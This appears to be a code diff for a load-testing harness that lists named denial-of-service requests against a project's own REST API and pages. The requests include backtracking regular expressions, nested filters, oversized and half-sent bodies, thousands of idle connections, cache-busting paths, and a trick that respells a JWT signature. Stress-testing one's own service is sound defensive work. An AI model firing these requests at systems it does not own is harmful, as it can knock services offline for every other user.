@@ -1,39 +1,68 @@
+/** What the attacker has: the public key, and a session of an account without rights. */
+export interface Credentials {
+  anonKey: string
+  token: string
+}
+
 /** One request of an attack. */
 export interface AttackRequest {
   method?: string
   path: string
   body?: string
+  headers?: Record<string, string>
+  /** Sends half of the body and waits. */
+  isHalf?: boolean
   /** Leaves the answer unread. */
-  unread?: boolean
+  isUnread?: boolean
 }
 
 export interface Attack {
-  /** Requests that one address has under way at the same time. */
+  /** Requests, or connections, that one address has open at the same time. */
   parallel: number
-  request: (n: number) => AttackRequest
+  /** Makes the nth request; without it connections are opened and left silent. */
+  request?: (n: number, credentials: Credentials) => AttackRequest
 }
 
 const list = (count: number, part: (n: number) => string) =>
   Array.from({ length: count }, (_, n) => part(n)).join(',')
 const expression = (n: number) => encodeURIComponent(`(.{0,99}){0,9}Q${n}`)
+const hex = (letter: string) => `%${letter.charCodeAt(0).toString(16)}`
 
-const read = (query: string | ((n: number) => string), parallel = 50): Attack => ({
-  parallel,
-  request: (n) => ({ path: `/rest/v1/${typeof query === 'string' ? query : query(n)}` }),
+/** Reads with the public key. */
+const read = (query: string | ((n: number) => string), headers = {}): Attack => ({
+  parallel: 50,
+  request: (n) => ({ path: `/rest/v1/${typeof query === 'string' ? query : query(n)}`, headers }),
 })
 
-/** What one client could cost all others, by name; each is a request repeated for as long as it takes. */
+/** Other addresses than those of the site's own interface. */
+const get = (parallel: number, path: (n: number) => string): Attack => ({
+  parallel,
+  request: (n) => ({ path: path(n) }),
+})
+
+/** Public files of a few bytes, which the target holds. */
+export const TINY_FILES = Array.from({ length: 50 }, (_, n) => `photos/tiny/${n}.txt`)
+
+const SHARED_PAGES = ['about', 'events', 'publications', 'leadership', 'contact']
+
+/** What one client could cost all others, by name; each is repeated for as long as it takes. */
 export const ATTACKS: Record<string, Attack> = {
   'regular-expressions': read(
     (n) => `publications?select=id&or=(${list(100, (m) => `title.match."${expression(n + m)}"`)})`,
   ),
-  'few-regular-expressions': read((n) => `publications?select=id&title=match.${expression(n)}`),
+  'regular-expressions-signed-in': {
+    parallel: 50,
+    request: (n, { token }) => ({
+      path: `/rest/v1/publications?select=id&title=match.${expression(n)}`,
+      headers: { authorization: `Bearer ${token}` },
+    }),
+  },
   'like-chains': read((n) => {
     const pattern = `*${'a*'.repeat(60)}${n}`
     return `publications?select=id&or=(${list(40, () => `description.ilike.${pattern}`)})`
   }),
   'deep-logic': read(
-    (n) => `publications?select=id&${'or'}=(${'and('.repeat(18)}year.eq.${n}${')'.repeat(18)})`,
+    (n) => `publications?select=id&or=(${'and('.repeat(18)}year.eq.${n}${')'.repeat(18)})`,
   ),
   'in-lists': read((n) => `publications?select=id&year=in.(${list(2000, (m) => String(n + m))})`),
   'json-paths': read(
@@ -45,58 +74,60 @@ export const ATTACKS: Record<string, Attack> = {
   'large-order': read(
     `publications?select=*&order=${list(20, (n) => ['title', 'id'][n % 2] ?? '')}`,
   ),
-  counts: {
-    parallel: 50,
-    request: () => ({ path: '/rest/v1/publications?select=id&limit=1' }),
-  },
+  counts: read('publications?select=id&limit=1', { prefer: 'count=exact' }),
+  exports: read('publications?select=*&limit=1000', { accept: 'text/csv' }),
   'repeated-columns': read(`publications?select=${list(1300, () => 'description')}`),
   'distinct-statements': read(
     (n) => `publications?select=${list(80, (m) => `c${n}x${m}:title->${m}`)}&limit=1`,
   ),
   'unread-answers': {
     parallel: 100,
-    request: () => ({ path: '/rest/v1/publications?select=*&limit=1000', unread: true }),
+    request: () => ({ path: '/rest/v1/publications?select=*&limit=1000', isUnread: true }),
   },
-  'anonymous-writes': {
+  'purging-writes': {
     parallel: 50,
-    request: (n) => ({
+    request: (n, { anonKey, token }) => ({
       method: 'PATCH',
-      path: `/rest/v1/events?id=eq.${n}`,
+      path: '/rest/v1/events?id=eq.00000000-0000-0000-0000-000000000000',
       body: '{"title":"x"}',
+      headers: { authorization: `Bearer ${n % 2 ? token : respelled(anonKey)}` },
     }),
   },
   'large-bodies': {
     parallel: 8,
-    request: () => ({
-      method: 'POST',
-      path: '/rest/v1/events',
-      body: `[${'{"title":"x"},'.repeat(650_000)}{"title":"x"}]`,
-    }),
+    request: () => ({ method: 'POST', path: '/rest/v1/events', body: LARGE_BODY }),
   },
-  'medium-bodies': {
+  'half-sent-bodies': {
     parallel: 25,
     request: () => ({
       method: 'POST',
       path: '/rest/v1/events',
-      body: JSON.stringify({ title: 'x'.repeat(100_000) }),
+      body: MEDIUM_BODY,
+      isHalf: true,
     }),
   },
-  'spelled-pictures': {
-    parallel: 20,
-    request: (n) => {
-      const name = [...'photos'].map((letter, at) => ((n >> at) & 1 ? hex(letter) : letter))
-      return { path: `/pictures/1920/whole/avif/stored/${name.join('')}/gallery/doppler-rows.webp` }
-    },
-  },
-  'made-up-pictures': {
-    parallel: 20,
-    request: (n) => ({ path: `/pictures/640/4x3/avif/stored/photos/gallery/no-${n}.webp` }),
-  },
-  'made-up-pages': { parallel: 50, request: (n) => ({ path: `/made-up-${n}` }) },
-  feeds: { parallel: 50, request: (n) => ({ path: ['/events.ics', '/sitemap.xml'][n % 2] ?? '' }) },
-  'share-pictures': { parallel: 20, request: (n) => ({ path: `/share/made-up-${n}.png` }) },
+  'silent-connections': { parallel: 2500 },
+  'spelled-pictures': get(20, (n) => {
+    const name = [...'photos'].map((letter, at) => ((n >> at) & 1 ? hex(letter) : letter))
+    return `/pictures/1920/whole/avif/stored/${name.join('')}/gallery/doppler-rows.webp`
+  }),
+  'made-up-pictures': get(20, (n) => `/pictures/640/4x3/avif/stored/photos/gallery/no-${n}.webp`),
+  'made-up-pages': get(50, (n) => `/made-up-${n}`),
+  'tiny-files': get(
+    50,
+    (n) => `/storage/v1/object/public/${TINY_FILES[n % TINY_FILES.length]}?n=${n}`,
+  ),
+  feeds: get(50, (n) => ['/events.ics', '/sitemap.xml', `/events.atom?n=${n}`][n % 3] ?? ''),
+  'share-pictures': get(20, (n) => `/share/${SHARED_PAGES[n % SHARED_PAGES.length]}.png?n=${n}`),
 }
 
-function hex(letter: string): string {
-  return `%${letter.charCodeAt(0).toString(16)}`
+/** 9 MB. */
+const LARGE_BODY = `[${'{"title":"x"},'.repeat(650_000)}{"title":"x"}]`
+/** 100 kB. */
+const MEDIUM_BODY = JSON.stringify({ title: 'x'.repeat(100_000) })
+
+/** The same signature in other letters: the last one of base64url has two bits that nothing reads. */
+function respelled(token: string): string {
+  const letters = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_'
+  return token.slice(0, -1) + letters[letters.indexOf(token.slice(-1)) ^ 1]
 }
